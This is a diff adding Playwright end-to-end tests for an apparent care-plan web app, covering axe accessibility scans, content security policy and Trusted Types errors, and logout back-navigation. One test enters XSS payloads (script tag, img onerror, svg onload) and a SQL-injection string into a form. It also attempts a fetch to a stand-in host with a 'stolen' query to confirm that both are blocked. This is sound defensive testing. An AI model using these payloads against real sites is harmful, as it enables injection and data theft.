@@ -1,0 +1,179 @@
+import { AxeBuilder } from '@axe-core/playwright'
+import type { Page } from '@playwright/test'
+import { expect, signIn, test } from '#tests/support/journey.ts'
+import { CARE_PLAN, choosePerson, EMERGENCY, logOut, profileMenu } from '#tests/support/screens.ts'
+
+interface Screen {
+  name: string
+  path: string
+  /** What stands on the screen when it is ready. */
+  ready: (page: Page) => ReturnType<Page['getByRole']>
+  /** What a person opens there before it is looked at. */
+  open?: (page: Page) => Promise<void>
+}
+
+const heading = (name: string | RegExp) => (page: Page) => page.getByRole('heading', { level: 1, name })
+const dialog = (name: string) => (page: Page) => page.getByRole('dialog', { name })
+
+const SIGNED_OUT: Screen[] = [
+  { name: 'home', path: '/', ready: heading(/./) },
+  { name: 'sign-in', path: '/login', ready: heading('Log In') },
+]
+
+const SIGNED_IN: Screen[] = [
+  { name: 'dashboard', path: '/dashboard', ready: heading(/^Good /) },
+  { name: 'care plan', path: CARE_PLAN, ready: heading('Care plan') },
+  {
+    name: 'care plan being edited',
+    path: CARE_PLAN,
+    ready: (page) => page.getByRole('button', { name: 'Save' }),
+    open: async (page) => {
+      await page.getByRole('button', { name: 'Basic Information: menu' }).click()
+      await page.getByRole('menuitem', { name: 'Edit' }).click()
+    },
+  },
+  { name: 'emergency view', path: EMERGENCY, ready: heading('Maya Okafor') },
+  { name: 'dependents', path: '/dashboard/dependents', ready: heading('Dependents') },
+  {
+    name: 'dependent form',
+    path: '/dashboard/dependents',
+    ready: dialog('Add Dependent'),
+    open: (page) => page.getByRole('button', { name: 'Add Dependent' }).click(),
+  },
+  {
+    name: 'waiting to send',
+    path: '/dashboard',
+    ready: dialog('Waiting to send'),
+    open: (page) => page.getByRole('banner').getByRole('status').getByRole('button').click(),
+  },
+  {
+    name: 'profile menu',
+    path: '/dashboard',
+    ready: (page) => page.getByRole('menu'),
+    open: (page) => profileMenu(page).click(),
+  },
+  {
+    name: 'display and language',
+    path: '/dashboard',
+    ready: (page) => page.getByRole('dialog'),
+    open: async (page) => {
+      await profileMenu(page).click()
+      await page.getByRole('menuitem', { name: 'Display and language' }).click()
+    },
+  },
+  { name: 'not found', path: '/dashboard/no-such-page', ready: (page) => page.getByText('Page not found') },
+]
+
+/** Complaints of the browser: refused by the content security policy or Trusted Types, or an error nobody caught. */
+function complaints(page: Page): string[] {
+  const heard: string[] = []
+  page.on('pageerror', (error) => heard.push(error.message))
+  page.on('console', (message) => {
+    if (/Content Security Policy|Trusted/.test(message.text())) heard.push(message.text())
+  })
+  return heard
+}
+
+/** The early painting of a care plan has given way to the screen itself. */
+const isHandedOver = (page: Page) =>
+  page.waitForFunction(() => document.getElementById('boot')?.childElementCount === 0)
+
+async function look(page: Page, { name, path, ready, open }: Screen): Promise<void> {
+  await test.step(name, async () => {
+    await page.goto(path)
+    await open?.(page)
+    await expect(ready(page)).toBeVisible()
+    await isHandedOver(page)
+    const { violations } = await new AxeBuilder({ page }).analyze()
+    const found = violations.flatMap(({ id, nodes }) => nodes.map(({ target }) => `${id}: ${target.join(' ')}`))
+    expect.soft(found, name).toEqual([])
+    const isScrolling = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth)
+    expect.soft(isScrolling, `${name} scrolls sideways`).toBe(false)
+  })
+}
+
+for (const colorScheme of ['light', 'dark'] as const) {
+  for (const viewport of [
+    { width: 390, height: 844 },
+    { width: 1280, height: 800 },
+  ]) {
+    test(`every screen is free of axe findings and of refused scripts, ${colorScheme}, ${viewport.width} wide`, async ({
+      home,
+    }) => {
+      test.setTimeout(180_000)
+      const page = await home.device.open('/', { colorScheme, viewport })
+      const heard = complaints(page)
+      for (const screen of SIGNED_OUT) await look(page, screen)
+      await page.goto('/login')
+      await signIn(page)
+      await choosePerson(page, 'Maya')
+      for (const screen of SIGNED_IN) await look(page, screen)
+      expect(heard).toEqual([])
+    })
+  }
+}
+
+test('script that came in as text, or from anywhere else, never runs', async ({ home }) => {
+  const page = await home.device.open('/login')
+  await signIn(page)
+  const hostile = '<img src=x onerror="globalThis.wasRun=true"><script>globalThis.wasRun=true</script>'
+
+  await test.step('as a name', async () => {
+    await page.goto('/dashboard/dependents')
+    await page.getByRole('button', { name: 'Add Dependent' }).click()
+    const form = page.getByRole('dialog', { name: 'Add Dependent' })
+    await form.getByLabel('First Name').fill(hostile.slice(0, 60))
+    await form.getByLabel('Last Name').fill('"><svg onload=globalThis.wasRun=true>')
+    await form.getByLabel('Date of Birth').fill('2015-03-14')
+    await form.getByLabel('Gender').selectOption('Other')
+    await form.getByLabel('Relationship').fill("'; drop table users; --")
+    await form.getByRole('button', { name: 'Save' }).click()
+    await expect(page.getByRole('main').getByText(hostile.slice(0, 60)).first()).toBeVisible()
+    await expect(page.getByRole('main').getByText("'; drop table users; --").first()).toBeVisible()
+  })
+
+  const refused = await page.evaluate(async () => {
+    const outcomes: Record<string, string> = {}
+    const attempt = (name: string, run: () => void) => {
+      try {
+        run()
+        outcomes[name] = 'allowed'
+      } catch {
+        outcomes[name] = 'refused'
+      }
+    }
+    attempt('innerHTML', () => {
+      document.createElement('div').innerHTML = '<b>bold</b>'
+    })
+    attempt('another policy', () => {
+      const factory = (globalThis as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } })
+        .trustedTypes
+      factory.createPolicy('stranger', {})
+    })
+    attempt('a worker from elsewhere', () => void new Worker('https://elsewhere.example/worker.js'))
+    const elsewhere = await fetch('https://elsewhere.example/?stolen').then(
+      () => 'allowed',
+      () => 'refused',
+    )
+    return { ...outcomes, elsewhere, wasRun: 'wasRun' in globalThis }
+  })
+  expect(refused).toEqual({
+    innerHTML: 'refused',
+    'another policy': 'refused',
+    'a worker from elsewhere': 'refused',
+    elsewhere: 'refused',
+    wasRun: false,
+  })
+})
+
+test('after the Logout nothing of the dashboard can be opened by going back', async ({ home }) => {
+  const page = await home.device.open('/login')
+  await signIn(page)
+  await page.goto(CARE_PLAN)
+  await expect(page.getByRole('heading', { level: 1, name: 'Care plan' })).toBeVisible()
+  await logOut(page)
+  await expect(page).toHaveURL('/')
+  await page.goBack()
+  await expect(page).toHaveURL('/login')
+  await expect(page.locator('body')).not.toContainText('Zigzag lights')
+})
